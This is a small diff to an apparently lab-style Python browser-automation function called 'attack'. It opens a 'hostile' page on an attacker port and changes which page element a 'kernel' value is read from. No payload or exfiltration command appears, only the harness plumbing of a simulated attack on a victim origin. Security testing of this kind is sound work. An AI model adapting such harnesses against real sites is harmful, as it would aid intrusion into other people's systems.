@@ -64,7 +64,7 @@ def attack(lab, visit, villain):
     accounts.close()
     hostile = page.context.new_page()
     hostile.goto(f"http://{urlsplit(other).hostname}:{villain}/hasil")
-    kernel = work.evaluate("JSON.parse(document.getElementById('spbe-page').textContent).kernel")
+    kernel = work.evaluate("JSON.parse(document.getElementById('spbe-kernel').textContent)")
     victim = urlsplit(own).path.split("/")[2]
     return (
         hostile,
